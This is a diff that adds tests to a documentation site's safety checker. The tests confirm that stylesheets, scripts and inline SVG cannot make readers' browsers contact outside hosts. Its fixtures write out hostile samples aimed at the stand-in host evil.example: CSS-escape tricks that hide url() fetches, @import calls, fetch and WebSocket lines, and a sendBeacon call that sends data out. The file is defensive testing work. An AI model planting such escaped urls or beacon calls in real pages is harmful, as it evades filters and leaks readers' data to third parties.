@@ -190,3 +190,90 @@ def test_make_check_reports_ids_the_theme_or_a_preview_card_uses():
             '<p id="term-preview-rag">Forged</p>\n\n<p id="a">1</p>\n\n<p id="a">2</p>\n')
     assert [(p.line, p.message) for p in raw_html_problems("x.md", text)] == [
         (6, id_sentence("__config")), (8, id_sentence("term-preview-rag")), (12, id_sentence("a"))]
+
+
+def test_css_escapes_do_not_hide_an_outside_address():
+    """Chromium fetches fill="url(\\68ttps://…)" and fill="u\\72l(https://…)" (tried by hand)."""
+    for raw in (r'<svg><rect fill="url(\68ttps://evil.example/a.svg#g)"/></svg>',
+                r'<svg><rect fill="u\72l(https://evil.example/b.svg#g)"/></svg>',
+                r'<svg><rect fill="url(\2f\2f evil.example/c.svg#g)"/></svg>'):
+        assert any("loads a file from outside the site" in s for s in sanitize(raw).refused), raw
+        assert any("outside the site" in p for p in page_problems(raw)), raw
+    assert sanitize('<svg><rect fill="url(#local)"/></svg>').refused == []
+
+
+def test_a_mermaid_block_would_make_the_theme_fetch_mermaid_from_unpkg():
+    from safety.built_page import theme_classes
+    text = '---\ntitle: X\n---\n\n<pre class="mermaid">graph TD; A-->B</pre>\n\n```mermaid\ngraph TD\n```\n'
+    found = [(p.line, p.message) for p in raw_html_problems("x.md", text)]
+    assert len(found) == 1 and found[0][0] == 5 and "unpkg.com" in found[0][1], found
+    # Material's bundle: `M("pre.mermaid", e).map(i => Zn(i))` loads https://unpkg.com/mermaid@11.
+    bundle = next((ROOT / ".venv").glob("lib/python*/site-packages/material/templates/assets/javascripts/bundle.*.min.js"))
+    assert '"pre.mermaid"' in bundle.read_text(encoding="utf-8") and "unpkg.com/mermaid" in bundle.read_text(encoding="utf-8")
+    assert theme_classes('<pre class="x mermaid">a</pre>') == ["mermaid"]
+
+
+STYLESHEET = """/* url(https://in-a-comment.example/x.png) is not read */
+@namespace svg url(http://www.w3.org/2000/svg);
+@import url(https://evil.example/a.css);
+@import "//evil.example/b.css";
+.a { background: url( "https://evil.example/c.png" ); }
+.b { background: url(../images/ok.png), url('data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg"/%3E'); }
+.c { background-image: image-set("../x.png" 1x, "https://evil.example/d.png" 2x); }
+.d { background: u\\72l(\\68ttps://evil.example/e.png); }
+@font-face { font-family: X; src: local("X"),
+  url(
+    "https://evil.example/f.woff2") format("woff2"); }
+"""
+SCRIPT = """// "https://in-a-comment.example/" is not a request, but a quoted address is refused anyway
+const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
+fetch("https://evil.example/a");
+importScripts('//evil.example/b.js');
+new WebSocket(`wss://evil.example/${room}`);
+navigator.sendBeacon("http://evil.example/c", data);
+const ok = "../search/search_index.json", path = "//", note = "a // b";
+"""
+
+
+def test_stylesheets_and_scripts_name_no_other_sites_address():
+    from safety.asset_files import script_addresses, stylesheet_addresses
+    assert stylesheet_addresses(STYLESHEET) == [
+        (3, "https://evil.example/a.css"), (4, "//evil.example/b.css"), (5, "https://evil.example/c.png"),
+        (7, "https://evil.example/d.png"), (8, "https://evil.example/e.png"), (11, "https://evil.example/f.woff2")]
+    assert script_addresses(SCRIPT) == [
+        (1, "https://in-a-comment.example/"), (3, "https://evil.example/a"), (4, "//evil.example/b.js"),
+        (5, "wss://evil.example/${room}"), (6, "http://evil.example/c")]
+
+
+def test_the_sites_own_stylesheets_and_scripts_pass():
+    from checks import default_template_dirs
+    from checks.assets import asset_problems, published_assets
+    docs = ROOT / "docs"
+    mine = published_assets(docs, default_template_dirs(docs))
+    assert {"docs/assets/javascripts/term-preview.js", "docs/assets/stylesheets/extra.css"} <= set(mine)
+    assert not any("site-packages" in str(path) for path in mine.values())  # Material's are its own
+    assert asset_problems(docs, default_template_dirs(docs)) == []
+    from safety.asset_files import script_addresses  # the search hook's worker is published too
+    assert script_addresses((ROOT / "hooks/search/reader_queries.js").read_text(encoding="utf-8")) == []
+
+
+def test_make_check_refuses_a_stylesheet_or_script_that_asks_another_site(tmp_path):
+    from checks import all_problems
+    import shutil
+    docs = tmp_path / "docs"
+    shutil.copytree(ROOT / "docs", docs)
+    (docs / "assets/stylesheets/extra.css").write_text(
+        (docs / "assets/stylesheets/extra.css").read_text(encoding="utf-8") + "\n@import url(https://evil.example/x.css);\n",
+        encoding="utf-8")
+    (docs / "assets/javascripts/new.js").write_text('\nfetch("https://evil.example/track");\n', encoding="utf-8")
+    found = [str(p) for p in all_problems(docs)]
+    lines = (docs / "assets/stylesheets/extra.css").read_text(encoding="utf-8").count("\n")
+    assert [p for p in found if "another site" in p] == [
+        f"assets/javascripts/new.js:2: this script makes readers' browsers ask another site for "
+        "'https://evil.example/track'. Readers on the intranet cannot reach it, and the site makes no request "
+        "outside itself. Copy the file into docs/assets/ and use it from there (a path relative to this file), "
+        "or remove the line.",
+        f"assets/stylesheets/extra.css:{lines}: this stylesheet makes readers' browsers ask another site for "
+        "'https://evil.example/x.css'. Readers on the intranet cannot reach it, and the site makes no request "
+        "outside itself. Copy the file into docs/assets/ and use it from there (a path relative to this file), "
+        "or remove the line."]
